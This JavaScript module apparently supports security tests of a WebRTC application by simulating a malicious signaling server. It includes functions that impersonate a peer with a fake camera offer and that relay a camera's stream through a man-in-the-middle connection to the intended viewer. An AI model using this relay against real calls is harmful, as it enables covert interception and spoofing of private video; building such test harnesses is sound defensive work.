// @ts-check
// Runs in a page of its own, which the malicious server has at hand: the media
// of whoever stands in between. Every function is whole in itself, to be sent there.

/**
 * An offer with a picture, which a page that took it would show.
 *
 * @returns {Promise<string>} the session description, its candidates in it
 */
export async function offerOfImpostor() {
  const pc = new RTCPeerConnection();
  const stream = await navigator.mediaDevices.getUserMedia({ video: true });
  pc.addTrack(stream.getTracks()[0], stream);
  await pc.setLocalDescription();
  while (pc.iceGatheringState !== 'complete') await new Promise((done) => (pc.onicegatheringstatechange = done));
  return pc.localDescription?.sdp ?? '';
}

/**
 * Answers a camera as if it were its viewer, and offers the camera's picture on
 * to the viewer as if it were the camera.
 *
 * @param {string} sdp the camera's offer
 * @returns {Promise<{answer: string, offer: string}>} the answer for the camera and the offer for its viewer
 */
export async function standBetween(sdp) {
  const [toCamera, toViewer] = [new RTCPeerConnection(), new RTCPeerConnection()];
  Object.assign(globalThis, { toViewer });
  toCamera.ontrack = ({ track, streams }) => toViewer.addTrack(track, streams[0]);
  const gathered = async (/** @type {RTCPeerConnection} */ pc) => {
    await pc.setLocalDescription();
    while (pc.iceGatheringState !== 'complete') await new Promise((done) => (pc.onicegatheringstatechange = done));
    return pc.localDescription?.sdp ?? '';
  };
  await toCamera.setRemoteDescription({ type: 'offer', sdp });
  const answer = await gathered(toCamera);
  return { answer, offer: await gathered(toViewer) };
}

/** @param {string} sdp the viewer's answer to the offer of {@link standBetween} */
export async function viewerAnswered(sdp) {
  /** @type {RTCPeerConnection} */
  const toViewer = /** @type {any} */ (globalThis).toViewer;
  if (toViewer.signalingState === 'have-local-offer') await toViewer.setRemoteDescription({ type: 'answer', sdp });
}
